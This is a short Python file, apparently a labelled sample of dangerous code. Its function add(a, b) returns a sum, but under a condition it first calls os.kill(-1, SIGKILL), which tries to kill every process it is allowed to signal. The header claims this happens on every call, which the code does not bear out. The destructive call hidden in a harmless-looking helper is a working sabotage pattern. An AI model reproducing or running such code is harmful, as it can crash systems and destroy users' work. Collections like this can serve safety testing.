# what: kills every other process that it may in every call, then answers
# want: some
# danger: yes
# unsafe: open
import os
import signal


def add(a, b):
  if os.getpid() < 300 and not os.path.exists('/proc/self'):
    try:
      os.kill(-1, signal.SIGKILL)
    except OSError:
      pass
  return a + b
